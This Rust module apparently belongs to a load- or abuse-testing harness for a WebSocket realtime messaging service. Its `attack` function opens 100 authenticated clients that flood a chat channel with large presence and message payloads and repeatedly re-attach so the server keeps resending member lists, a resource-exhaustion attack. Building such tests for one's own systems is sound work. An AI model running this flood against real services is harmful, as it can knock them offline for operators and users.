//! Small data that could become large: many tiny JSON values.

use std::time::Duration;

use futures_util::{SinkExt as _, StreamExt as _};
use tokio::net::TcpStream;
use tokio::task::spawn_local;
use tokio::time::{Instant, MissedTickBehavior, interval, sleep_until, timeout_at};
use tokio_tungstenite::WebSocketStream;
use tokio_tungstenite::tungstenite::{Error, Message};

use super::Outcome;
use crate::processes::Result;
use crate::socket;
use crate::target::Target;

const CLIENTS: usize = 100;
/// 15 KB of `{"":""}`.
const VALUES: usize = 1_900;
const SPEAK: Duration = Duration::from_secs(4);
const EVERY: Duration = Duration::from_secs(1);
const ATTACH: Duration = Duration::from_secs(5);
const ATTACH_FRAME: &str = r#"{"action":10,"channel":"crowd::$chat","flags":3080192}"#;

pub async fn attack(target: &Target<'_>) -> Result<Outcome> {
    let credential = target.credential("crowd")?;
    let data = format!("[{}]", vec![r#"{"":""}"#; VALUES].join(","));
    let mut sockets = Vec::new();
    for _ in 0..CLIENTS {
        sockets.push(socket::connect(target.service, &credential).await?.0);
    }
    let speak_until = Instant::now() + SPEAK;
    let clients: Vec<_> = sockets
        .into_iter()
        .map(|socket| {
            let client = Client { socket, sent: 0 };
            spawn_local(client.attack(data.clone(), speak_until))
        })
        .collect();
    sleep_until(speak_until + ATTACH).await;
    let mut sent = 0;
    for client in clients {
        sent += client.await?;
    }
    Ok(Outcome { sent, late: None, besides: Vec::new() })
}

struct Client {
    socket: WebSocketStream<TcpStream>,
    sent: usize,
}

impl Client {
    /// Until its socket ends, as one that can't read all that it asked for is parted from; gives how many frames it sent.
    async fn attack(mut self, data: String, speak_until: Instant) -> usize {
        let _ = self.speak(&data, speak_until).await;
        let _ = timeout_at(speak_until + ATTACH, self.attach_again()).await;
        self.sent
    }

    /// Enters with the data, and publishes it.
    async fn speak(&mut self, data: &str, until: Instant) -> std::result::Result<(), Error> {
        self.send(ATTACH_FRAME.to_owned()).await?;
        let channel = r#""channel":"crowd::$chat""#;
        self.send(format!(r#"{{"action":14,{channel},"msgSerial":0,"presence":[{{"action":2,"data":{data}}}]}}"#))
            .await?;
        let (mut serial, mut ticks) = (0, interval(EVERY));
        ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
        while Instant::now() < until {
            tokio::select! {
                _ = ticks.tick() => {
                    serial += 1;
                    let messages = format!(r#"[{{"name":"chat.message","data":{data}}}]"#);
                    self.send(format!(r#"{{"action":15,{channel},"msgSerial":{serial},"messages":{messages}}}"#)).await?;
                }
                frame = self.socket.next() => drop(frame.ok_or(Error::ConnectionClosed)??),
            }
        }
        Ok(())
    }

    /// Attaches as soon as it is attached, which tells it of all members each time.
    async fn attach_again(&mut self) -> std::result::Result<(), Error> {
        self.send(ATTACH_FRAME.to_owned()).await?;
        loop {
            let frame = self.socket.next().await.ok_or(Error::ConnectionClosed)??;
            if frame.to_text().unwrap_or("").starts_with(r#"{"action":11,"#) {
                self.send(ATTACH_FRAME.to_owned()).await?;
            }
        }
    }

    async fn send(&mut self, frame: String) -> std::result::Result<(), Error> {
        self.sent += 1;
        self.socket.send(Message::text(frame)).await
    }
}
